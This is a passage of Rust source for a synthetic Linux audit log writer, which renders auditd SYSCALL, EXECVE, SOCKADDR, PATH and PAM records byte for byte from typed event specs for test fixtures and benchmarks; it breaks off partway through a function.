//! Linux audit log writer: `/var/log/audit/audit.log` text from typed [`AuditSpec`]s, for
//! fixtures, synthetic bundles and benchmarks, plus a seeded generator of a large background log
//! ([`generate_background`]) that streams to its writer.
//!
//! Input: events in the order the kernel would have emitted them. Output: the lines auditd
//! writes for them, byte for byte in the kernel's and libaudit's formats (x86_64 kernels 5.x–6.x,
//! auditd 3.x):
//!
//! - `[node=NAME ]type=TYPE msg=audit(SEC.MSEC:SERIAL): fields` — one line per record; every
//!   record of an event shares the `audit(…)` stamp.
//! - A syscall event is `SYSCALL` (`arch=c000003e syscall=N success= exit= a0..a3 items= ppid=
//!   pid= auid= uid= gid= euid= suid= fsuid= egid= sgid= fsgid= tty= ses= comm= exe= [subj=]
//!   key=`), then its auxiliary records in the kernel's order: `EXECVE`, `SOCKADDR`, `OBJ_PID`
//!   or `KERN_MODULE`, then `CWD` and `PATH` items when the syscall resolved a path, then
//!   `PROCTITLE`. Untrusted strings (comm, exe, paths, keys, arguments) are quoted when every
//!   byte is printable ASCII other than `"` and space, and written as uppercase hex otherwise;
//!   execve arguments follow the kernel's `audit_log_execve_info` exactly, including
//!   `aN_len=`/`aN[i]=` pieces and continuation `EXECVE` records for long arguments.
//! - User-space events (PAM, sshd, systemd, shadow, auditd itself) are one record:
//!   `pid= uid= auid= ses= [subj=] msg='op=… acct="…" exe="…" hostname=… addr=… terminal=…
//!   res=success'`.
//! - [`LogFormat::Enriched`] appends, after a `\x1d` separator, what auditd's ENRICHED
//!   `log_format` adds: `ARCH=`, `SYSCALL=`, `UID="name"`-style user and group names (from
//!   [`AuditWriterOptions::names`]) and `SADDR={ … }`.
//! - On-disk logs have no `EOE` records (auditd drops them); [`AuditWriterOptions::eoe`] adds
//!   them. [`AuditWriterOptions::interleave`] mixes the records of consecutive events, as logs
//!   written under load do.
//!
//! Imports `util` (and the other `synth` modules) only. Nothing here reads evidence.

use crate::util::time::NANOS_PER_SEC;
use crate::util::Timestamp;
use std::collections::HashMap;
use std::fmt::Write as _;
use std::io::{self, Write};
use std::net::{IpAddr, SocketAddr};

mod background;

pub use background::{background_bytes_per_event, generate_background, BackgroundConfig, BackgroundSummary};

/// `arch=` of an x86_64 syscall record (`AUDIT_ARCH_X86_64`).
pub const ARCH_X86_64: &str = "c000003e";
/// auid and ses of a process outside any login session (`(unsigned)-1`).
pub const AUDIT_UNSET: u32 = u32::MAX;
/// The kernel's budget for one `EXECVE` record's arguments; longer argument lists continue in
/// further records.
pub const MAX_EXECVE_AUDIT_LEN: usize = 7500;
/// The kernel's `abuf` for an argument's name (`a12_len=… a12[3]=`); a record needs this much
/// room plus 8 before another argument goes into it.
const EXECVE_ARG_NAME_BUF: usize = 96;
/// Bytes of the command line a `PROCTITLE` record holds.
pub const MAX_PROCTITLE_AUDIT_LEN: usize = 128;
/// Longest `comm` (TASK_COMM_LEN less its NUL).
pub const MAX_COMM_LEN: usize = 15;
/// `sizeof(struct sockaddr_un)`, the address length most programs pass for a path socket.
const SOCKADDR_UN_LEN: usize = 110;
/// The audit record separator auditd's ENRICHED format puts before the interpreted fields.
pub const ENRICHED_SEPARATOR: char = '\x1d';

/// Events further apart than this are not interleaved (50 ms).
pub const INTERLEAVE_WINDOW: i64 = 50_000_000;

const EINPROGRESS: i32 = 115;
const ECONNREFUSED: i32 = 111;

/// The x86_64 syscalls the writer renders, with their numbers and names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Syscall {
    Execve,
    Connect,
    Accept,
    Accept4,
    Bind,
    SendTo,
    Ptrace,
    Kill,
    InitModule,
    FinitModule,
}

impl Syscall {
    pub const fn number(self) -> u32 {
        match self {
            Syscall::Execve => 59,
            Syscall::Connect => 42,
            Syscall::Accept => 43,
            Syscall::Accept4 => 288,
            Syscall::Bind => 49,
            Syscall::SendTo => 44,
            Syscall::Ptrace => 101,
            Syscall::Kill => 62,
            Syscall::InitModule => 175,
            Syscall::FinitModule => 313,
        }
    }

    pub const fn name(self) -> &'static str {
        match self {
            Syscall::Execve => "execve",
            Syscall::Connect => "connect",
            Syscall::Accept => "accept",
            Syscall::Accept4 => "accept4",
            Syscall::Bind => "bind",
            Syscall::SendTo => "sendto",
            Syscall::Ptrace => "ptrace",
            Syscall::Kill => "kill",
            Syscall::InitModule => "init_module",
            Syscall::FinitModule => "finit_module",
        }
    }
}

/// A socket address as a `SOCKADDR` record carries it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SockAddr {
    /// AF_INET or AF_INET6 by the address.
    Inet(SocketAddr),
    /// AF_UNIX path socket, written with `sizeof(struct sockaddr_un)` (path NUL-padded).
    Unix(String),
}

/// What a `connect` returned.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ConnectResult {
    Connected,
    /// A non-blocking connect under way: `success=no exit=-115` (EINPROGRESS).
    InProgress,
    /// `success=no exit=-111` (ECONNREFUSED).
    Refused,
    /// Any other failure, by errno (2 for a path socket that does not exist).
    Failed(i32),
}

impl ConnectResult {
    fn exit(self) -> i64 {
        match self {
            ConnectResult::Connected => 0,
            ConnectResult::InProgress => -i64::from(EINPROGRESS),
            ConnectResult::Refused => -i64::from(ECONNREFUSED),
            ConnectResult::Failed(errno) => -i64::from(errno.unsigned_abs()),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AcceptCall {
    Accept,
    Accept4,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ModuleCall {
    /// `init_module`: the image comes from memory.
    InitModule,
    /// `finit_module`: the image comes from a file descriptor (what modprobe uses).
    FinitModule,
}

/// The process a `kill` or `ptrace` acts on, as its `OBJ_PID` record describes it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TargetProcess {
    pub pid: u32,
    pub auid: Option<u32>,
    pub uid: u32,
    pub ses: Option<u32>,
    pub comm: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    Success,
    Failed,
}

impl Outcome {
    fn word(self) -> &'static str {
        match self {
            Outcome::Success => "success",
            Outcome::Failed => "failed",
        }
    }
}

/// Who a user-space message is about: `acct="name"`, or `id=N` (sshd's successful
/// `USER_LOGIN`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Account {
    Name(String),
    Id(u32),
}

/// The `msg='…'` part of a user-space record (libaudit's `audit_log_acct_message`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UserMessage {
    pub account: Account,
    /// PAM modules that granted the request (`grantors=pam_unix`); `grantors=?` on failure.
    pub grantors: Option<String>,
    /// `hostname=`; `?` when `None`.
    pub hostname: Option<String>,
    /// `addr=`; `?` when `None`.
    pub addr: Option<IpAddr>,
    /// `terminal=` (`ssh`, `/dev/pts/0`, `cron`); `?` when `None`.
    pub terminal: Option<String>,
    pub outcome: Outcome,
}

impl UserMessage {
    /// A successful message about `acct` with no grantors, host, address or terminal.
    pub fn new(acct: &str) -> UserMessage {
        UserMessage {
            account: Account::Name(acct.to_string()),
            grantors: None,
            hostname: None,
            addr: None,
            terminal: None,
            outcome: Outcome::Success,
        }
    }
}

/// What happened. Syscall kinds become multi-record events; the others are one record.
#[derive(Debug, Clone, PartialEq)]
pub enum AuditKind {
    /// `execve` of [`AuditSpec::exe`] with these arguments (EXECVE, CWD, PATH for the program
    /// and the dynamic loader, PROCTITLE of the new command line).
    Execve {
        argv: Vec<String>,
    },
    Connect {
        addr: SockAddr,
        result: ConnectResult,
    },
    /// An accepted connection; `SOCKADDR` is the peer.
    Accept {
        peer: SockAddr,
        call: AcceptCall,
    },
    Bind {
        addr: SockAddr,
    },
    /// A datagram of `len` bytes sent to `addr`.
    SendTo {
        addr: SockAddr,
        len: u32,
    },
    /// `ptrace(request, target)`: 0x10 PTRACE_ATTACH, 0x4206 PTRACE_SEIZE.
    Ptrace {
        target: TargetProcess,
        request: u32,
    },
    Kill {
        target: TargetProcess,
        signal: u32,
    },
    ModuleLoad {
        name: String,
        call: ModuleCall,
    },
    /// Kernel `LOGIN` record: the process's auid and session changed from these to
    /// [`AuditSpec::auid`] and [`AuditSpec::ses`].
    Login {
        old_auid: Option<u32>,
        old_ses: Option<u32>,
    },
    /// `USER_LOGIN`, `op=login`.
    UserLogin(UserMessage),
    /// `USER_AUTH`, `op=PAM:authentication`.
    UserAuth(UserMessage),
    /// `USER_ACCT`, `op=PAM:accounting`.
    UserAcct(UserMessage),
    /// `CRED_ACQ`, `op=PAM:setcred`.
    CredAcq(UserMessage),
    /// `CRED_DISP`, `op=PAM:setcred`.
    CredDisp(UserMessage),
    /// `USER_START`, `op=PAM:session_open`.
    UserStart(UserMessage),
    /// `USER_END`, `op=PAM:session_close`.
    UserEnd(UserMessage),
    /// `ADD_USER`, `op=add-user`.
    AddUser(UserMessage),
    /// `DEL_USER`, `op=delete-user`.
    DelUser(UserMessage),
    /// systemd's `SERVICE_START` for `unit`.
    ServiceStart {
        unit: String,
    },
    ServiceStop {
        unit: String,
    },
    /// Kernel `CONFIG_CHANGE` for an audit rule: `op=add_rule key="…" list=4 res=1`.
    ConfigChange {
        op: String,
        key: Option<String>,
        list: u32,
        outcome: Outcome,
    },
    /// auditd started (`op=start ver=… format=… kernel=…`).
    DaemonStart {
        version: String,
        kernel: String,
    },
    /// auditd stopped (`op=terminate`).
    DaemonEnd,
}

/// One audit event: the process that caused it and what it did.
///
/// `suid`/`fsuid` are written as `euid`, `sgid`/`fsgid` as `egid`.
#[derive(Debug, Clone, PartialEq)]
pub struct AuditSpec {
    /// UTC; written to the millisecond.
    pub ts: Timestamp,
    pub serial: u64,
    pub pid: u32,
    pub ppid: u32,
    pub uid: u32,
    pub gid: u32,
    pub euid: u32,
    pub egid: u32,
    /// Login uid; `None` is unset (4294967295).
    pub auid: Option<u32>,
    /// Session id; `None` is unset (4294967295).
    pub ses: Option<u32>,
    /// `pts0`…; `None` is `(none)`.
    pub tty: Option<String>,
    /// Truncated to [`MAX_COMM_LEN`] bytes when written.
    pub comm: String,
    pub exe: String,
    /// Working directory, for the `CWD` record of path-resolving syscalls.
    pub cwd: String,
    /// The process's command line, for `PROCTITLE` of syscalls other than execve (which use
    /// the new argv); `comm` when empty.
    pub cmdline: Vec<String>,
    /// LSM label (`unconfined` under AppArmor); no `subj=` when `None`.
    pub subj: Option<String>,
    /// The audit rule's key; `key=(null)` when `None`.
    pub key: Option<String>,
    /// The syscall's a0..a3; when `None`, plausible values (pointers, the descriptor, the
    /// address length, the pid and signal…) derived from the serial and pid.
    pub args: Option<[u64; 4]>,
    pub kind: AuditKind,
}

impl AuditSpec {
    /// An event of a root process (pid 1, ppid 0) running `exe`, outside any login session, no
    /// tty, cwd `/`, no LSM label or rule key; `comm` is the file name of `exe`. Set the public
    /// fields for anything else.
    pub fn new(ts: Timestamp, serial: u64, exe: &str, kind: AuditKind) -> AuditSpec {
        AuditSpec {
            ts,
            serial,
            pid: 1,
            ppid: 0,
            uid: 0,
            gid: 0,
            euid: 0,
            egid: 0,
            auid: None,
            ses: None,
            tty: None,
            comm: comm_of(exe),
            exe: exe.to_string(),
            cwd: "/".to_string(),
            cmdline: Vec::new(),
            subj: None,
            key: None,
            args: None,
            kind,
        }
    }
}

/// The `comm` the kernel gives a program: its file name, cut to [`MAX_COMM_LEN`] bytes.
pub fn comm_of(path: &str) -> String {
    let name = path.rsplit('/').next().unwrap_or(path);
    let mut end = name.len().min(MAX_COMM_LEN);
    while !name.is_char_boundary(end) {
        end -= 1;
    }
    name[..end].to_string()
}

/// auditd's `log_format`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LogFormat {
    /// Records as the kernel and user space sent them.
    Raw,
    /// Plus `\x1d` and interpreted names (`UID="root"`, `SYSCALL=connect`, `SADDR={ … }`).
    Enriched,
}

#[derive(Debug, Clone)]
pub struct AuditWriterOptions {
    /// `node=NAME ` before every record (auditd's `name_format`).
    pub node: Option<String>,
    pub format: LogFormat,
    /// Mix the records of each pair of consecutive events less than [`INTERLEAVE_WINDOW`] apart
    /// (a0 b0 a1 b1 …).
    pub interleave: bool,
    /// End each event with an `EOE` record (the audit socket has them, log files do not).
    pub eoe: bool,
    /// User and group names for the enriched format (`unknown(N)` otherwise).
    pub names: Vec<(u32, String)>,
}

impl Default for AuditWriterOptions {
    /// Raw format, no node name, no interleaving, no EOE; the system accounts of a Debian host
    /// as names.
    fn default() -> Self {
        AuditWriterOptions {
            node: None,
            format: LogFormat::Raw,
            interleave: false,
            eoe: false,
            names: [
                (0, "root"),
                (1, "daemon"),
                (2, "bin"),
                (3, "sys"),
                (33, "www-data"),
                (42, "_apt"),
                (65534, "nobody"),
            ]
            .iter()
            .map(|&(id, n)| (id, n.to_string()))
            .collect(),
        }
    }
}

/// What a writer wrote.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct WriteStats {
    pub events: u64,
    pub records: u64,
    pub bytes: u64,
}

/// Writes events one at a time to `out`; memory is one or two events.
pub struct AuditWriter<W: Write> {
    out: W,
    opts: AuditWriterOptions,
    names: HashMap<u32, String>,
    /// Time and lines of the previous event, waiting for the next to be interleaved with it.
    held: Option<(Timestamp, Vec<String>)>,
    stats: WriteStats,
}

impl<W: Write> AuditWriter<W> {
    pub fn new(out: W, opts: AuditWriterOptions) -> Self {
        let names = opts.names.iter().cloned().collect();
        AuditWriter { out, opts, names, held: None, stats: WriteStats::default() }
    }

    pub fn write(&mut self, spec: &AuditSpec) -> io::Result<()> {
        let lines = self.lines(spec);
        self.stats.events += 1;
        if !self.opts.interleave {
            return self.emit(&lines);
        }
        match self.held.take() {
            None => {
                self.held = Some((spec.ts, lines));
                Ok(())
            }
            // Records mix only when events are emitted together; a reader may take an event
            // with no new records for a couple of seconds to be complete (auparse does).
            Some((ts, first)) if spec.ts.saturating_sub(ts) > INTERLEAVE_WINDOW => {
                self.held = Some((spec.ts, lines));
                self.emit(&first)
            }
            Some((_, first)) => {
                let mut mixed = Vec::with_capacity(first.len() + lines.len());
                let (mut a, mut b) = (first.into_iter(), lines.into_iter());
                loop {
                    match (a.next(), b.next()) {
                        (None, None) => break,
                        (x, y) => mixed.extend(x.into_iter().chain(y)),
                    }
                }
                self.emit(&mixed)
            }
        }
    }

    /// Writes any held event, flushes and returns the output and what was written.
    pub fn finish(mut self) -> io::Result<(W, WriteStats)> {
        if let Some((_, lines)) = self.held.take() {
            self.emit(&lines)?;
        }
        self.out.flush()?;
        Ok((self.out, self.stats))
    }

    fn emit(&mut self, lines: &[String]) -> io::Result<()> {
        for line in lines {
            self.out.write_all(line.as_bytes())?;
            self.stats.bytes += line.len() as u64;
        }
        self.stats.records += lines.len() as u64;
        Ok(())
    }

    /// The event's lines, each ending in `\n`.
    fn lines(&self, spec: &AuditSpec) -> Vec<String> {
        let enriched = self.opts.format == LogFormat::Enriched;
        let records = build_records(spec, &self.opts, enriched.then_some(&self.names));
        let ms = spec.ts.rem_euclid(NANOS_PER_SEC) / 1_000_000;
        let stamp = format!("msg=audit({}.{ms:03}:{}):", spec.ts.div_euclid(NANOS_PER_SEC), spec.serial);
        let node = self.opts.node.as_ref().map(|n| format!("node={n} ")).unwrap_or_default();
        let mut lines: Vec<String> = records
            .into_iter()
            .map(|r| {
                let mut line = String::with_capacity(node.len() + r.body.len() + r.enrich.len() + 48);
                let _ = write!(line, "{node}type={} {stamp} {}", r.rtype, r.body);
                if !r.enrich.is_empty() {
                    line.push(ENRICHED_SEPARATOR);
                    line.push_str(&r.enrich);
                }
                line.push('\n');
                line
            })
            .collect();
        if self.opts.eoe && lines.len() > 1 {
            lines.push(format!("{node}type=EOE {stamp} \n"));
        }
        lines
    }
}

/// Writes `events` in order (see [`AuditWriter`]).
pub fn write_events(events: &[AuditSpec], opts: &AuditWriterOptions, out: &mut impl Write) -> io::Result<WriteStats> {
    let mut w = AuditWriter::new(out, opts.clone());
    for e in events {
        w.write(e)?;
    }
    w.finish().map(|(_, stats)| stats)
}

// ---------------------------------------------------------------------------------------------
// Records

struct Record {
    rtype: &'static str,
    body: String,
    /// Interpreted fields for the enriched format, without the separator.
    enrich: String,
}

impl Record {
    fn new(rtype: &'static str, body: String) -> Record {
        Record { rtype, body, enrich: String::new() }
    }
}

/// A `PATH` item.
struct PathItem {
    name: String,
    mode: u32,
    owner: u32,
    nametype: &'static str,
}

/// Names for the enriched format; `None` for raw.
type Names<'a> = Option<&'a HashMap<u32, String>>;

fn build_records(spec: &AuditSpec, opts: &AuditWriterOptions, names: Names<'_>) -> Vec<Record> {
    let unix_path = |a: &SockAddr| match a {
        SockAddr::Unix(p) => Some(p.clone()),
        SockAddr::Inet(_) => None,
    };
    let socket_item = |p: String| PathItem { name: p, mode: 0o140777, owner: 0, nametype: "NORMAL" };
    let mut aux = Vec::new();
    let mut paths: Vec<PathItem> = Vec::new();
    let r = RandomArgs::new(spec);
    let (call, exit, args) = match &spec.kind {
        AuditKind::Execve { argv } => {
            for body in execve_bodies(argv) {
                aux.push(Record::new("EXECVE", body));
            }
            paths.push(PathItem { name: spec.exe.clone(), mode: 0o100755, owner: 0, nametype: "NORMAL" });
            paths.push(PathItem {
                name: "/lib64/ld-linux-x86-64.so.2".into(),
                mode: 0o100755,
                owner: 0,
                nametype: "NORMAL",
            });
            (Syscall::Execve, 0, [r.heap(0), r.heap(1), r.heap(2), r.small(3)])
        }
        AuditKind::Connect { addr, result } => {
            aux.push(sockaddr_record(addr, names));
            paths.extend(unix_path(addr).map(socket_item));
            (Syscall::Connect, result.exit(), [r.fd(), r.stack(1), sockaddr_len(addr), r.small(3)])
        }
        AuditKind::Accept { peer, call } => {
            aux.push(sockaddr_record(peer, names));
            let (call, a3) = match call {
                AcceptCall::Accept => (Syscall::Accept, 0),
                AcceptCall::Accept4 => (Syscall::Accept4, 0x800),
            };
            (call, 0, [r.fd(), r.stack(1), r.stack(2), a3])
        }
        AuditKind::Bind { addr } => {
            aux.push(sockaddr_record(addr, names));
            if let Some(p) = unix_path(addr) {
                let parent = p.rsplit_once('/').map_or(".", |(d, _)| if d.is_empty() { "/" } else { d }).to_string();
                paths.push(PathItem { name: parent, mode: 0o40755, owner: 0, nametype: "PARENT" });
                paths.push(PathItem { name: p, mode: 0o140755, owner: spec.euid, nametype: "CREATE" });
            }
            (Syscall::Bind, 0, [r.fd(), r.heap(1), sockaddr_len(addr), r.small(3)])
        }
        AuditKind::SendTo { addr, len } => {
            aux.push(sockaddr_record(addr, names));
            (Syscall::SendTo, i64::from(*len), [r.fd(), r.heap(1), u64::from(*len), 0x4000])
        }
        AuditKind::Ptrace { target, request } => {
            aux.push(obj_pid_record(target, spec, names));
            (Syscall::Ptrace, 0, [u64::from(*request), u64::from(target.pid), 0, r.small(3)])
        }
        AuditKind::Kill { target, signal } => {
            aux.push(obj_pid_record(target, spec, names));
            (Syscall::Kill, 0, [u64::from(target.pid), u64::from(*signal), 0, r.small(3)])
        }
        AuditKind::ModuleLoad { name, call } => {
            let mut body = String::from("name=");
            push_untrusted(&mut body, name.as_bytes());
            aux.push(Record::new("KERN_MODULE", body));
            match call {
                ModuleCall::InitModule => (Syscall::InitModule, 0, [r.heap(0), r.small(1), r.heap(2), 0]),
                ModuleCall::FinitModule => (Syscall::FinitModule, 0, [r.fd(), r.heap(1), 0, r.small(3)]),
            }
        }
        _ => return vec![user_record(spec, opts, names)],
    };
    let args = spec.args.unwrap_or(args);
    // An accepted connection's descriptor is the next free one after the listener's.
    let exit = if matches!(spec.kind, AuditKind::Accept { .. }) { args[0] as i64 + 1 } else { exit };

    let mut records = Vec::with_capacity(aux.len() + paths.len() + 3);
    records.push(syscall_record(spec, call, exit, args, paths.len(), names));
    records.extend(aux);
    if !paths.is_empty() {
        let mut body = String::from("cwd=");
        push_untrusted(&mut body, spec.cwd.as_bytes());
        records.push(Record::new("CWD", body));
    }
    for (i, item) in paths.iter().enumerate() {
        records.push(path_record(i, item, names));
    }
    let argv = match &spec.kind {
        AuditKind::Execve { argv } => argv.as_slice(),
        _ => spec.cmdline.as_slice(),
    };
    let mut body = String::from("proctitle=");
    push_proctitle(&mut body, argv, &spec.comm);
    records.push(Record::new("PROCTITLE", body));
    records
}

fn syscall_record(
    spec: &AuditSpec,
    call: Syscall,
    exit: i64,
    args: [u64; 4],
    items: usize,
    names: Names<'_>,
) -> Record {
    let mut b = String::with_capacity(400);
    let success = if exit < 0 { "no" } else { "yes" };
    let _ = write!(
        b,
        "arch={ARCH_X86_64} syscall={} success={success} exit={exit} a0={:x} a1={:x} a2={:x} a3={:x} items={items} \
         ppid={} pid={} auid={} uid={} gid={} euid={} suid={} fsuid={} egid={} sgid={} fsgid={} tty={} ses={} comm=",
        call.number(),
        args[0],
        args[1],
        args[2],
        args[3],
        spec.ppid,
        spec.pid,
        id_or_unset(spec.auid),
        spec.uid,
        spec.gid,
        spec.euid,
        spec.euid,
        spec.euid,
        spec.egid,
        spec.egid,
        spec.egid,
        spec.tty.as_deref().unwrap_or("(none)"),
        id_or_unset(spec.ses),
    );
    let comm = spec.comm.as_bytes();
    push_untrusted(&mut b, &comm[..comm.len().min(MAX_COMM_LEN)]);
    b.push_str(" exe=");
    push_untrusted(&mut b, spec.exe.as_bytes());
    if let Some(subj) = &spec.subj {
        let _ = write!(b, " subj={subj}");
    }
    push_key(&mut b, spec.key.as_deref());
    let mut rec = Record::new("SYSCALL", b);
    if let Some(names) = names {
        let e = &mut rec.enrich;
        let _ = write!(e, "ARCH=x86_64 SYSCALL={} AUID=", call.name());
        push_name(e, names, spec.auid);
        for (field, id) in [
            ("UID", spec.uid),
            ("GID", spec.gid),
            ("EUID", spec.euid),
            ("SUID", spec.euid),
            ("FSUID", spec.euid),
            ("EGID", spec.egid),
            ("SGID", spec.egid),
            ("FSGID", spec.egid),
        ] {
            let _ = write!(e, " {field}=");
            push_name(e, names, Some(id));
        }
    }
    rec
}

fn path_record(item: usize, p: &PathItem, names: Names<'_>) -> Record {
    let mut b = format!("item={item} name=");
    push_untrusted(&mut b, p.name.as_bytes());
    let _ = write!(
        b,
        " inode={} dev=fd:01 mode=0{:o} ouid={} ogid={} rdev=00:00 nametype={} \
         cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
        inode_of(&p.name),
        p.mode,
        p.owner,
        p.owner,
        p.nametype
    );
    let mut rec = Record::new("PATH", b);
    if let Some(names) = names {
        rec.enrich.push_str("OUID=");
        push_name(&mut rec.enrich, names, Some(p.owner));
        rec.enrich.push_str(" OGID=");
        push_name(&mut rec.enrich, names, Some(p.owner));
    }
    rec
}

fn sockaddr_record(addr: &SockAddr, names: Names<'_>) -> Record {
    let mut body = String::from("saddr=");
    push_hex(&mut body, &sockaddr_bytes(addr));
    let mut rec = Record::new("SOCKADDR", body);
    if names.is_some() {
        rec.enrich = format!("SADDR={}", interpret_sockaddr(addr));
    }
    rec
}

/// The bytes of a `struct sockaddr`: family little-endian, port big-endian.
pub fn sockaddr_bytes(addr: &SockAddr) -> Vec<u8> {
    match addr {
        SockAddr::Inet(SocketAddr::V4(a)) => {
            let mut v = vec![2, 0];
            v.extend_from_slice(&a.port().to_be_bytes());
            v.extend_from_slice(&a.ip().octets());
            v.extend_from_slice(&[0; 8]);
            v
        }
        SockAddr::Inet(SocketAddr::V6(a)) => {
            let mut v = vec![10, 0];
            v.extend_from_slice(&a.port().to_be_bytes());
            v.extend_from_slice(&a.flowinfo().to_be_bytes());
            v.extend_from_slice(&a.ip().octets());
            v.extend_from_slice(&a.scope_id().to_le_bytes());
            v
        }
        SockAddr::Unix(path) => {
            let mut v = vec![1, 0];
            let p = path.as_bytes();
            v.extend_from_slice(&p[..p.len().min(SOCKADDR_UN_LEN - 3)]);
            v.resize(SOCKADDR_UN_LEN, 0);
            v
        }
    }
}

fn sockaddr_len(addr: &SockAddr) -> u64 {
    sockaddr_bytes(addr).len() as u64
}

/// ausearch's and the enriched format's reading of a socket address.
pub fn interpret_sockaddr(addr: &SockAddr) -> String {
    match addr {
        SockAddr::Inet(SocketAddr::V4(a)) => format!("{{ saddr_fam=inet laddr={} lport={} }}", a.ip(), a.port()),
        SockAddr::Inet(SocketAddr::V6(a)) => format!("{{ saddr_fam=inet6 laddr={} lport={} }}", a.ip(), a.port()),
        SockAddr::Unix(p) => format!("{{ saddr_fam=local path={p} }}"),
    }
}

fn obj_pid_record(t: &TargetProcess, spec: &AuditSpec, names: Names<'_>) -> Record {
    // The kernel prints oauid and oses as signed ints: unset is -1.
    let signed = |v: Option<u32>| v.map_or(-1, i64::from);
    let mut b = format!("opid={} oauid={} ouid={} oses={}", t.pid, signed(t.auid), t.uid, signed(t.ses));
    if let Some(subj) = &spec.subj {
        let _ = write!(b, " obj={subj}");
    }
    b.push_str(" ocomm=");
    let comm = t.comm.as_bytes();
    push_untrusted(&mut b, &comm[..comm.len().min(MAX_COMM_LEN)]);
    let mut rec = Record::new("OBJ_PID", b);
    if let Some(names) = names {
        rec.enrich.push_str("OAUID=");
        push_name(&mut rec.enrich, names, t.auid);
        rec.enrich.push_str(" OUID=");
        push_name(&mut rec.enrich, names, Some(t.uid));
    }
    rec
}

/// The single record of a user-space or kernel configuration event.
fn user_record(spec: &AuditSpec, opts: &AuditWriterOptions, names: Names<'_>) -> Record {
    let subj = spec.subj.as_ref().map(|s| format!(" subj={s}")).unwrap_or_default();
    let header = format!(
        "pid={} uid={} auid={} ses={}{subj}",
        spec.pid,
        spec.uid,
        id_or_unset(spec.auid),
        id_or_unset(spec.ses)
    );
    let (rtype, body) = match &spec.kind {
        AuditKind::UserLogin(m) => ("USER_LOGIN", user_body(&header, "login", m, spec)),
        AuditKind::UserAuth(m) => ("USER_AUTH", user_body(&header, "PAM:authentication", m, spec)),
        AuditKind::UserAcct(m) => ("USER_ACCT", user_body(&header, "PAM:accounting", m, spec)),
        AuditKind::CredAcq(m) => ("CRED_ACQ", user_body(&header, "PAM:setcred", m, spec)),
        AuditKind::CredDisp(m) => ("CRED_DISP", user_body(&header, "PAM:setcred", m, spec)),
        AuditKind::UserStart(m) => ("USER_START", user_body(&header, "PAM:session_open", m, spec)),
        AuditKind::UserEnd(m) => ("USER_END", user_body(&header, "PAM:session_close", m, spec)),
        AuditKind::AddUser(m) => ("ADD_USER", user_body(&header, "add-user", m, spec)),
        AuditKind::DelUser(m) => ("DEL_USER", user_body(&header, "delete-user", m, spec)),
        AuditKind::ServiceStart { unit } | AuditKind::ServiceStop { unit } => {
            let rtype =
                if matches!(spec.kind, AuditKind::ServiceStart { .. }) { "SERVICE_START" } else { "SERVICE_STOP" };
            let mut b = format!("{header} msg='unit={unit} comm=");
            push_untrusted(&mut b, spec.comm.as_bytes());
            b.push_str(" exe=");
            push_untrusted(&mut b, spec.exe.as_bytes());
            b.push_str(" hostname=? addr=? terminal=? res=success'");
            (rtype, b)
        }
        AuditKind::Login { old_auid, old_ses } => {
            let b = format!(
                "pid={} uid={}{subj} old-auid={} auid={} tty={} old-ses={} ses={} res=1",
                spec.pid,
                spec.uid,
                id_or_unset(*old_auid),
                id_or_unset(spec.auid),
                spec.tty.as_deref().unwrap_or("(none)"),
                id_or_unset(*old_ses),
                id_or_unset(spec.ses)
            );
            let mut rec = Record::new("LOGIN", b);
            if let Some(names) = names {
                let e = &mut rec.enrich;
                e.push_str("UID=");
                push_name(e, names, Some(spec.uid));
                e.push_str(" OLD-AUID=");
                push_name(e, names, *old_auid);
                e.push_str(" AUID=");
                push_name(e, names, spec.auid);
            }
            return rec;
        }
        AuditKind::ConfigChange { op, key, list, outcome } => {
            let mut b = format!("auid={} ses={}{subj} op={op}", id_or_unset(spec.auid), id_or_unset(spec.ses));
            push_key(&mut b, key.as_deref());
            let _ = write!(b, " list={list} res={}", u8::from(*outcome == Outcome::Success));
            let mut rec = Record::new("CONFIG_CHANGE", b);
            if let Some(names) = names {
                rec.enrich.push_str("AUID=");
                push_name(&mut rec.enrich, names, spec.auid);
            }
            return rec;
        }
        AuditKind::DaemonStart { version, kernel } => {
            let format = match opts.format {
                LogFormat::Raw => "raw",
                LogFormat::Enriched => "enriched",
            };
            let b = format!(
                "op=start ver={version} format={format} kernel={kernel} auid={} pid={} uid={} ses={}{} res=success",
                id_or_unset(spec.auid),
                spec.pid,
                spec.uid,
                id_or_unset(spec.ses),
                subj
            );
            return daemon_record("DAEMON_START", b, spec, names);
        }
        AuditKind::DaemonEnd => {
            let b = format!(
                "op=terminate auid={} uid={} ses={}{subj} pid={} res=success",
                id_or_unset(spec.auid),
                spec.uid,
                id_or_unset(spec.ses),
                spec.pid
            );
            return daemon_record("DAEMON_END", b, spec, names);
        }
        // Syscall kinds are built by `build_records`.
        _ => ("UNKNOWN", header),
    };
    let mut rec = Record::new(rtype, body);
    if let Some(names) = names {
        let e = &mut rec.enrich;
        e.push_str("UID=");
        push_name(e, names, Some(spec.uid));
        e.push_str(" AUID=");
        push_name(e, names, spec.auid);
    }
    rec
}

fn daemon_record(rtype: &'static str, body: String, spec: &AuditSpec, names: Names<'_>) -> Record {
    let mut rec = Record::new(rtype, body);
    if let Some(names) = names {
        rec.enrich.push_str("AUID=");
        push_name(&mut rec.enrich, names, spec.auid);
        rec.enrich.push_str(" UID=");
        push_name(&mut rec.enrich, names, Some(spec.uid));
    }
    rec
}

/// `{header} msg='op=… [grantors=…] acct="…"|id=N exe="…" hostname=… addr=… terminal=… res=…'`.
fn user_body(header: &str, op: &str, m: &UserMessage, spec: &AuditSpec) -> String {
    let mut b = format!("{header} msg='op={op}");
    if let Some(g) = &m.grantors {
        let _ = write!(b, " grantors={g}");
    }
    match &m.account {
        Account::Name(acct) => {
            b.push_str(" acct=");
            push_untrusted(&mut b, acct.as_bytes());
        }
        Account::Id(id) => {
            let _ = write!(b, " id={id}");
        }
    }
    b.push_str(" exe=");
